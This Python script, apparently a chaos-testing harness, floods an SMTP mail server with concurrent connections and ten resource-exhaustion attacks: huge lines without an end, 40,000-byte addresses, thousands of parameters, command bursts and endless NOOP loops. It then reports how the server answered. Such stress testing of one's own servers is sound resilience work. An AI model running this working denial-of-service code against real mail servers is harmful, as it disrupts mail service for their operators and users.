"""Clients that burn an MX's CPU and memory; `chaos.attack` runs them on `world`. Arguments: ADDRESS SECONDS SOURCE...

Each source address holds five connections (as many as an MX lets one client have), each of which goes through the
attacks again and again and gives up on an answer after a while, as an attacker would. Ends by itself. Prints a JSON
object: how often each attack was made, what was answered, and how many connections were turned away.
"""

from __future__ import annotations

import json
import random
import socket
import sys
import threading
import time
from collections import Counter
from collections.abc import Callable, Iterator

PER_SOURCE = 5
PATIENCE = 20.0  # s for an answer
SILENCE = "no answer"
REFUSED_WAIT = 1.0  # s before the next try after a connection that was turned away
FLOOD = 430 << 20  # bytes of a line without an end
BLOCK = b"x" * 65536

OPENING = (b"EHLO attacker.example", b"MAIL FROM:<a@world.example>")
ENVELOPE = (*OPENING, b"RCPT TO:<user1@customer.example>", b"DATA")


class Line:
    """One connection, until `deadline` (time.monotonic())."""

    def __init__(self, address: str, source: str, deadline: float) -> None:
        self.deadline = deadline
        self.socket = socket.create_connection((address, 25), PATIENCE, source_address=(source, 0))
        self.pending = b""

    def answer(self) -> str:
        """Return the code of the next reply; OSError when there is none in time."""
        give_up = min(time.monotonic() + PATIENCE, self.deadline)
        while True:
            line, ended, rest = self.pending.partition(b"\n")
            if ended:
                self.pending = rest
                if line[3:4] != b"-":
                    return line[:3].decode("ascii", "replace")
                continue
            self.socket.settimeout(max(give_up - time.monotonic(), 0.01))
            more = self.socket.recv(65536)
            if not more:
                raise ConnectionError("closed")
            self.pending += more

    def ask(self, *commands: bytes) -> str:
        """Send commands, one after the other; return the last answer."""
        reply = ""
        for command in commands:
            self.socket.settimeout(PATIENCE)
            self.socket.sendall(command + b"\r\n")
            reply = self.answer()
        return reply

    def flood(self) -> None:
        """Send a line without an end, until all is sent or the other side or the time is over."""
        for _ in range(FLOOD // len(BLOCK)):
            if time.monotonic() > self.deadline:
                return
            self.socket.settimeout(PATIENCE)
            self.socket.sendall(BLOCK)


def carriage_returns(line: Line) -> str:
    """A message with a line of 400,000 CRs."""
    line.ask(*ENVELOPE)
    return line.ask(b"Subject: x\r\n\r\n" + b"\r" * 400_000 + b"x\r\n.")


def line_ends(line: Line) -> str:
    """A message of 50,000 line ends; each costs microseconds, so more would only show how fast the machine is."""
    line.ask(*ENVELOPE)
    return line.ask(b"Subject: x\r\n\r\n" + b"\n" * 50_000 + b"\r\n.")


def long_address(line: Line) -> str:
    """An address whose domain is 40,000 bytes long."""
    line.ask(OPENING[0])
    return line.ask(b"MAIL FROM:<a@" + b"a" * 40_000 + b"!>")


def many_parameters(line: Line) -> str:
    """A command with 20,000 parameters."""
    line.ask(OPENING[0])
    return line.ask(b"MAIL FROM:<a@b.example>" + b" A=b" * 20_000)


def endless_command(line: Line) -> str:
    """A line without an end instead of an EHLO."""
    line.flood()
    return line.answer()


def endless_message(line: Line) -> str:
    """A line of a message that goes on far beyond the message's size."""
    line.ask(*ENVELOPE)
    line.flood()
    return line.ask(b"\r\n.")


def worst_commands(line: Line) -> str:
    """As many costly commands of a permitted length as one session will take."""
    reply = line.ask(OPENING[0])
    for _ in range(200):
        reply = line.ask(b"MAIL FROM:<a@" + b"a" * 2000 + b"!>")
    return reply


def burst(line: Line) -> str:
    """Five hundred short commands at once."""
    line.ask(OPENING[0])
    line.socket.sendall(b"RSET\r\n" * 500)
    reply = ""
    for _ in range(500):
        reply = line.answer()
    return reply


def endless(line: Line, command: bytes) -> str:
    """The same command 3,000 times, or until the MX has had enough."""
    reply = line.ask(*OPENING)
    for _ in range(3000):
        reply = line.ask(command)
        if reply == "421":
            break
    return reply


def refused_recipients(line: Line) -> str:
    """Recipients whose mail the MX doesn't take."""
    return endless(line, b"RCPT TO:<u@other.example>")


def noops(line: Line) -> str:
    """Commands that do nothing."""
    return endless(line, b"NOOP")


ATTACKS: tuple[Callable[[Line], str], ...] = (
    carriage_returns,
    line_ends,
    long_address,
    many_parameters,
    endless_command,
    endless_message,
    worst_commands,
    burst,
    refused_recipients,
    noops,
)


class Attack:
    """Counts attacks and answers; `run` makes one connection after the other."""

    def __init__(self, address: str, deadline: float) -> None:
        self.address = address
        self.deadline = deadline
        self.guard = threading.Lock()
        self.made: Counter[str] = Counter()
        self.answers: Counter[str] = Counter()
        self.turned_away = 0

    def order(self) -> Iterator[Callable[[Line], str]]:
        """All attacks, again and again, in an order that differs between connections."""
        while True:
            yield from random.sample(ATTACKS, len(ATTACKS))

    def run(self, source: str) -> None:
        """Attack from `source` until the deadline."""
        for attack in self.order():
            if time.monotonic() > self.deadline:
                return
            try:
                line = Line(self.address, source, self.deadline)
                with line.socket:
                    greeting = line.answer()
                    if greeting != "220":
                        raise ConnectionRefusedError(greeting)
                    self.make(attack, line)
            except OSError:
                with self.guard:
                    self.turned_away += 1
                time.sleep(REFUSED_WAIT)

    def make(self, attack: Callable[[Line], str], line: Line) -> None:
        """Make one attack and count it."""
        try:
            reply = attack(line)
        except OSError as error:
            reply = SILENCE if isinstance(error, TimeoutError) else "closed"
        with self.guard:
            self.made[attack.__name__] += 1
            self.answers[f"{attack.__name__}: {reply}"] += 1


def main(address: str, seconds: str, *sources: str) -> None:
    """Attack, then print the counts."""
    attack = Attack(address, time.monotonic() + float(seconds))
    threads = [threading.Thread(target=attack.run, args=(source,), daemon=True) for source in sources * PER_SOURCE]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(max(attack.deadline - time.monotonic(), 0) + PATIENCE + 5)
    with attack.guard:
        print(
            json.dumps(
                {
                    "made": dict(sorted(attack.made.items())),
                    "answers": dict(sorted(attack.answers.items())),
                    "turned_away": attack.turned_away,
                }
            )
        )


if __name__ == "__main__":
    main(*sys.argv[1:])
